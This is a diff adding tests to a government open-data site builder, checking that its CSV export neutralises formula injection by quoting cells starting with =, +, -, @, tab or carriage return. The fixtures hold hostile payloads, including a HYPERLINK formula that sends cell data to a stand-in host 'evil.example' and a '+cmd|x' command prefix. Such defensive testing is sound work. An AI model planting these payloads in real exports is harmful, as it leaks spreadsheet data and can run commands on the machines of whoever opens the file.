@@ -17,7 +17,7 @@ from jsonschema import Draft202012Validator
 
 from govsite import pipeline
 from govsite.config import load_project
-from govsite.opendata import CSV_COLUMNS, record_file
+from govsite.opendata import CSV_COLUMNS, catalogue_csv, record_file
 from govsite.pipeline import BuildResult
 from tests.conftest import REPO, MakeSite
 
@@ -139,6 +139,49 @@ def test_commas_quotes_and_line_breaks_survive_the_csv(make_site: MakeSite) -> N
     pipeline.build(load_project(root))
     cells = {r["index_no"]: r for r in csv_records(root / "build")}
     assert cells["000000001/2026-00001"]["summary"] == summary
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
+    make_site: MakeSite,
+) -> None:
+    # OWASP's CSV injection advice: =, +, -, @, tab and CR start a formula in Excel or Calc.
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    root = make_site()
+    record = root / "content/records/policies/2026/disclosure-work-points.md"
+    text = record.read_text(encoding="utf-8")
+    text = text.replace(
+        "title: 示例市人民政府办公室关于印发2026年政务公开工作要点的通知",
+        f"title: {json.dumps(title, ensure_ascii=False)}",
+    )
+    text = text.replace("summary: 部署2026年全市政务公开重点工作。", 'summary: "@SUM(1+1)"')
+    text = text.replace("keywords: [政务公开, 工作要点]", 'keywords: ["+cmd|x", "-1"]')
+    record.write_text(text, encoding="utf-8")
+    pipeline.build(load_project(root))
+    cells = {r["index_no"]: r for r in csv_records(root / "build")}["000000001/2026-00001"]
+    assert cells["title"] == "'" + title
+    assert cells["summary"] == "'@SUM(1+1)"
+    assert cells["keywords"] == "'+cmd|x;-1"  # the cell is what a spreadsheet reads
+    assert cells["index_no"] == "000000001/2026-00001"  # other cells are as they were
+    (row,) = [
+        r
+        for r in load(root / "build/data/catalogue.json")["records"]
+        if r["index_no"] == "000000001/2026-00001"
+    ]
+    assert (row["title"], row["summary"], row["keywords"]) == (
+        title,
+        "@SUM(1+1)",
+        ["+cmd|x", "-1"],
+    )
+
+
+def test_cells_starting_with_a_tab_or_carriage_return_start_with_a_quote(
+    demo: tuple[Path, BuildResult],
+) -> None:
+    records = load(demo[0] / "data/catalogue.json")["records"][:2]
+    records[0]["title"], records[1]["title"] = "\t=1+1", "\r=1+1"
+    text = catalogue_csv(records).decode("utf-8-sig")
+    read = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["title"] for r in read] == ["'\t=1+1", "'\r=1+1"]
 
 
 def test_record_file_names_are_safe_and_distinct() -> None:
